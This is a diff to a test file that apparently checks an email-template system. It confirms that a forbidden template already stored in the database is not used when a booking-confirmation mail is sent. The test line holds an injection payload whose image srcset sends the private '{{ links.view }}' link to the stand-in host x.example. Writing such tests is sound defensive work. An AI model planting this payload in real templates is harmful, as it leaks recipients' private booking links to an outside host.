@@ -149,7 +149,10 @@ test('a template that cannot be used is not saved, and the reason is told', asyn
 
 test('what was saved before it was forbidden does not leave: the mail leaves in the shipped words', async () => {
   const h = await harness()
-  const evil = LINE.replace('$', () => '<img srcset="https://x.example/?{{ links.view }}"><a href="{{ links.view }}">x</a>')
+  const evil = LINE.replace(
+    '$',
+    () => '<img srcset="https://x.example/?{{ links.view }}"><a href="{{ links.view }}">x</a>',
+  )
   await h.sql`update mail_templates set source = ${evil} where name = 'booking-confirmed.mjml'`
   await booked(await h.as.traveller())
   await h.runJobs()
